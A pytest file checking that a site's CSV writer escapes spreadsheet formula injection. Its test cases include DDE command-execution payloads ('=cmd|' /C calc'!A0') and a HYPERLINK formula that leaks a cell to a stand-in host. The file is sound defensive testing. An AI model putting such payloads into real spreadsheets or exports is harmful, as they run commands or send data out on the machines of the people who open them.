"""Formula injection: every CSV the site writes opens in a spreadsheet as text, never as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from alignment import csvsafe


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ('=HYPERLINK("http://x.example?"&A1)', '\'=HYPERLINK("http://x.example?"&A1)'),
        ("Acme", "Acme"),
        ("a=b", "a=b"),
        ("-12.5", "-12.5"),
        ("+44", "+44"),
        ("-3%", "-3%"),
        (-3, "-3"),
        (0.25, "0.25"),
        (None, ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value, written):
    out = io.StringIO()
    csvsafe.writer(out).writerow([value, "x"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [written, "x"]
